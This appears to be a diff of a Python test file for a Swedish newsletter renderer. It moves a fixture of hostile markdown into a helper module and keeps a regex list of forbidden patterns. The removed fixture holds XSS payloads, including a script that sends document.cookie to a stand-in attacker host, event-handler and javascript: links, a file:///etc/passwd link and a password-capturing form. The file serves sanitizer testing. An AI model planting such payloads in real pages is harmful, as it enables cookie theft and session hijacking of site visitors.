@@ -8,27 +8,7 @@ import shutil
 from newsletter.content import load_issue
 from newsletter.render import IssueRenderer
 
-HOSTILE_BODY = """\
-Vanlig text med **fetstil** och en [riktig länk](https://www.regeringen.se/).
-
-<script>document.location='https://evil.example.se/?c='+document.cookie</script>
-
-Inline <script>alert('xss')</script> och <img src=x onerror="alert(1)"> och
-<a href="javascript:alert(2)" onclick="alert(3)">klicka</a> och <iframe src="https://evil.example.se"></iframe>.
-
-[javascript-länk](javascript:alert(4)) [JaVaScRiPt](JAVASCRIPT:alert(5)) [tab](java&#9;script:alert(6))
-<javascript:alert(7)> [data](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)
-![pixel](data:image/png;base64,iVBORw0KGgo=) ![spårning](https://evil.example.se/p.gif "x")
-[vb](vbscript:msgbox(9)) [fil](file:///etc/passwd)
-
-<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(javascript:alert(10))">över allt</div>
-<style>body { display:none }</style>
-<span style="color:expression(alert(11))">css</span>
-<form action="https://evil.example.se"><input name="pw"></form>
-<meta http-equiv="refresh" content="0;url=https://evil.example.se">
-<object data="x.swf"></object><embed src="x.swf"><svg onload="alert(12)"><script>alert(13)</script></svg>
-<!-- <script>alert(14)</script> -->
-"""
+from .helpers import add_hostile_issue
 
 FORBIDDEN = [
     r"<script", r"onerror", r"onclick", r"onload", r"javascript:", r"vbscript:", r"<iframe",
@@ -36,23 +16,6 @@ FORBIDDEN = [
     r"<meta http-equiv=\"refresh", r"<object", r"<embed", r"<svg", r"file:///", r"alert\(",
     r"evil\.example\.se/\?c=", r"display:none }",
 ]
-
-
-def add_hostile_issue(site) -> None:
-    items = site.root / "issues/2026-12/items"
-    (items / "99-fientlig.md").write_text(
-        "---\n"
-        'title: "<script>alert(\'titel\')</script>Farlig <img src=x onerror=alert(1)>rubrik"\n'
-        "area: bostad\nkind: remiss\nurl: https://www.boverket.se/\n"
-        "---\n" + HOSTILE_BODY, encoding="utf-8")
-    (items / "98-lang.md").write_text(
-        "---\ntitle: \"" + "Strandskyddsdispensärendehanteringsprocessförbättringsförslag" * 4
-        + " med en mycket lång rubrik som fortsätter och fortsätter över flera rader på "
-        "en telefon 🎉🏡🚆\"\narea: infrastruktur\nkind: utredning\n"
-        "url: https://www.trafikverket.se/resa-och-trafik/vag/" + "a" * 150 + "\n"
-        "---\nÄven brödtexten har ett långt ord: " + "Å" * 120 + " och en lång länk "
-        "https://www.regeringen.se/" + "b" * 150 + " 👍 ÅÄÖ åäö é ü ß „citat” – tankstreck.\n",
-        encoding="utf-8")
 
 
 def test_hostile_content_never_reaches_the_output(site):
